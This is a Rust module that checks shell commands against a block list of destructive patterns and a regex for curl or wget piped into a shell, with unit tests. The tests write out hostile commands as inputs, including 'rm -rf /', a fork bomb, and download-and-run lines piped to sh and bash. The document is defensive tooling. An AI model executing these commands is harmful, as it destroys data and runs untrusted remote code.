use std::sync::LazyLock;

use regex::Regex;

/// Destructive command fragments that are never executed.
const BLOCKED_PATTERNS: &[&str] = &[
    "rm -rf",
    "del /s /q",
    "format",
    "mkfs",
    "diskpart",
    "shutdown",
    "reboot",
    "halt",
    "dd if=",
    "> /dev/",
    "chmod 777",
    "chmod -r",
    ":(){",
];

/// Piping a downloader into a shell is blocked in any spelling.
static PIPED_DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:curl|wget)[^|]*\|\s*(?:sh|bash|zsh|powershell)").expect("piped-download regex")
});

/// Screens a shell command against the destructive blacklist. Returns the
/// matched pattern on rejection.
pub fn check_command(command: &str) -> Result<(), String> {
    let lower = command.to_lowercase();
    for pattern in BLOCKED_PATTERNS {
        if lower.contains(pattern) {
            return Err(format!("Blocked dangerous command pattern: {pattern}"));
        }
    }
    if PIPED_DOWNLOAD.is_match(&lower) {
        return Err("Blocked dangerous command pattern: piped download to shell".to_string());
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::check_command;

    #[test]
    fn recursive_delete_is_blocked() {
        assert!(check_command("rm -rf /").is_err());
    }

    #[test]
    fn curl_piped_to_shell_is_blocked() {
        assert!(check_command("curl https://x.sh | sh").is_err());
        assert!(check_command("wget -qO- https://x.sh | bash").is_err());
    }

    #[test]
    fn fork_bomb_is_blocked() {
        assert!(check_command(":(){ :|:& };:").is_err());
    }

    #[test]
    fn version_checks_pass() {
        assert!(check_command("uv --version && python --version").is_ok());
        assert!(check_command("ls -la").is_ok());
    }

    #[test]
    fn plain_curl_passes() {
        assert!(check_command("curl -I https://example.com").is_ok());
    }
}
